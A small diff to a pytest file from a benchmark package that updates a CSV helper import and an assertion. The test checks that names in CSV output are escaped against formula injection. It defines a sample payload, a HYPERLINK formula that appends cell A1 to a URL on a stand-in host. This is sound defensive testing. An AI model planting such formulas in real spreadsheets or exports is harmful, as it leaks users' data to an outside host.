@@ -10,7 +10,7 @@ import pytest
 from vdmini_bench.studies.ablation import ArmScore
 from vdmini_bench.studies.ablation import write_scores as write_ablation
 from vdmini_bench.studies.plan_scores import TABLE, PlanScore, write_plan_scores
-from vdmini_bench.system.tables import csv_table
+from vdmini_bench.system.tables import csv_lines
 
 FORMULA = '=HYPERLINK("http://x/?"&A1)'
 
@@ -30,4 +30,4 @@ def test_no_name_is_a_formula(tmp_path: Path, name: str) -> None:
         assert cell.endswith(name.strip())
     # Numbers stay numbers.
     assert (arm["value"], arm["blocks"], plan["fvd_to_teacher"]) == ("-1.5", "-2 -1", "-0.5")
-    assert csv_table(["model"], [[name]]).splitlines()[1].lstrip('"').startswith("'")
+    assert csv_lines([["model"], [name]]).splitlines()[1].lstrip('"').startswith("'")
